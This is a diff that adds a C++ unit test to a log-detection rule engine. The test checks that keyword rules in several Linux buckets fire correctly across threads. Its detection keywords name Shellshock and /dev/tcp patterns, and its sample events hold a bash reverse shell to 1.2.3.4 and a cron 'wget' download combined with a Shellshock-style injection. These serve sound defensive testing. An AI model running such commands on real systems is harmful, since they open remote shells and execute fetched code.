@@ -3,6 +3,8 @@
 
 #include <gtest/gtest.h>
 
+#include <thread>
+
 #include "detect/detect_test_util.h"
 
 namespace vigil::detect {
@@ -120,6 +122,71 @@ detection:
             std::vector<std::string>{"linux"});
   // A JSON event that is not syslog does not reach Linux service rules.
   EXPECT_TRUE(Fired(*rules, R"({"message":"error: unexpected internal error"})").empty());
+}
+
+// An sshd event reaches the keyword literals of three buckets (linux, linux/auth, linux/sshd),
+// scanned in one database built for that set of buckets; a cron event reaches two others. Every
+// keyword of every bucket still fires, through one scratch reused across the kinds of event and
+// from several threads sharing the rule set.
+TEST(RuleSet, KeywordsOfSeveralBucketsAreFoundInOneScan) {
+  LoadReport report;
+  auto rules = RulesFrom(R"(title: sshd
+logsource: {product: linux, service: sshd}
+detection:
+  keywords: ['unexpected internal error', 'Corrupted MAC']
+  condition: keywords
+---
+title: auth
+logsource: {product: linux, service: auth}
+detection:
+  keywords: ['authentication failure']
+  condition: keywords
+---
+title: linux
+logsource: {product: linux}
+detection:
+  keywords: ['() { :; };', '/dev/tcp/']
+  condition: keywords
+---
+title: cron
+logsource: {product: linux, service: cron}
+detection:
+  keywords: ['wget http']
+  condition: keywords
+)",
+                         &report);
+  ASSERT_TRUE(report.problems.empty());
+  const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
+      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,
+          "message":"Corrupted MAC; authentication failure; bash -i >& /dev/tcp/1.2.3.4/80"})j",
+       {"sshd", "auth", "linux"}},
+      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,"message":"all quiet"})j", {}},
+      {R"j({"source_type":"syslog","app_name":"CRON","facility":9,
+          "message":"(root) CMD (wget http://x/a.sh; () { :; }; id)"})j",
+       {"linux", "cron"}},
+      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,
+          "message":"error: unexpected internal error"})j",
+       {"sshd"}},
+      // One value only (no joining), and keywords of a bucket the event does not reach.
+      {R"j({"source_type":"syslog","message":"wget http://x unexpected internal error"})j", {}},
+  };
+  auto run_all = [&] {
+    RuleSet::Scratch scratch;
+    for (int round = 0; round < 3; ++round) {
+      for (const auto& [json, want] : cases) {
+        Event event;
+        EXPECT_TRUE(ParseJsonEvent(json, &event).ok());
+        std::vector<Detection> detections;
+        rules->Match(event, scratch, &detections);
+        std::vector<std::string> titles;
+        for (const Detection& d : detections) titles.push_back(d.rule->rule.title);
+        EXPECT_EQ(titles, want) << json;
+      }
+    }
+  };
+  std::vector<std::thread> threads;
+  for (int i = 0; i < 3; ++i) threads.emplace_back(run_all);
+  for (std::thread& t : threads) t.join();
 }
 
 TEST(RuleSet, UnknownEventsReachOnlyRulesThatReadTheirFields) {
